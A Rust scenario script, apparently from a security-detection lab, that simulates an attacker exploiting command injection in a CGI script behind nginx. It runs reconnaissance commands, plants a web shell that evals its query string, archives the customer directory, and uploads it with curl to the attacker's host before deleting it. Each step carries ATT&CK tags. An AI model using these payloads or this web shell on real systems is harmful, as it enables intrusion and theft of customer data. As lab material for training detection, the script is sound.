//! A script behind nginx gives its parameter to a shell. The attacker looks around through it, drops a script of his own
//! beside the uploads, and takes the customers' list away through that.
//!
//! Hard because: visitors call the same script all the time, and CGI scripts start shells by their nature; the loot leaves by the
//! port that the visitors come from.

use crate::Lab;
use crate::life::{host_tasks, web};
use crate::network::get;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("web-1")?;
    let internet = lab.outsider("visitors")?;
    let attacker = lab.outsider("attacker")?;
    web::serve(&host)?;
    host_tasks::start(lab, &host)?;
    web::visit(lab, &internet, &host)?;
    lab.wait(15..25);

    let attack = lab.attack("command injection to web shell")?;
    let call = |path: &str| get(&attacker, host.address, 80, path);
    let inject = |commands: String| call(&format!("/cgi-bin/lookup.cgi?host=localhost;{commands}"));

    let step = attack.step("the injection is tried out", &["T1190", "T1059.004", "T1033"]);
    step.remote(&host, &attacker);
    let who = inject(format!("{} id; {}", step.mark(&host)?, lab.pick(&["uname -a", "hostname", "pwd"])))?;
    ensure!(who.contains("uid=33"), "the injection does not work: {who}");
    drop(step);
    lab.wait(2..6);

    let step = attack.step("a look around", &["T1087.001", "T1083", "T1057"]);
    step.remote(&host, &attacker);
    let looks = ["cat /etc/passwd", "ps ax", "ls -la /var/www", "cat /etc/os-release"];
    let (one, two) = (*lab.pick(&looks), *lab.pick(&looks));
    inject(format!("{} {one}; ls -la /var/www/customers; {two}", step.mark(&host)?))?;
    drop(step);
    lab.wait(2..8);

    let name = lab.word(6);
    let shell = format!("/var/www/html/uploads/{name}.cgi");
    let step = attack.step("a web shell is dropped", &["T1505.003", "T1105", "T1222.002"]);
    step.remote(&host, &attacker);
    step.file(&host, &shell);
    let text = r#"#!/bin/sh\necho Content-type: text/plain\necho\neval "$(busybox httpd -d "$QUERY_STRING")""#;
    inject(format!("{} printf '{text}' > {shell}; chmod 755 {shell}", step.mark(&host)?))?;
    drop(step);
    lab.wait(5..10);

    let loot = format!("/tmp/.{}", lab.word(5));
    let step = attack.step("customers are packed through the web shell", &["T1059.004", "T1005", "T1560.001"]);
    step.remote(&host, &attacker);
    step.file(&host, &loot);
    let said =
        call(&format!("/uploads/{name}.cgi?{} tar -czf {loot} /var/www/customers; ls -l {loot}", step.mark(&host)?))?;
    ensure!(said.contains(&loot), "the web shell does not work: {said}");
    drop(step);
    lab.wait(3..8);

    let step = attack.step("and taken away", &["T1048.003", "T1070.004"]);
    step.remote(&host, &attacker);
    web::take_upload(&attacker)?;
    let to = attacker.address;
    call(&format!("/uploads/{name}.cgi?{} curl -s -T {loot} http://{to}/; rm {loot}", step.mark(&host)?))?;
    drop(step);
    lab.wait(10..20);
    Ok(())
}
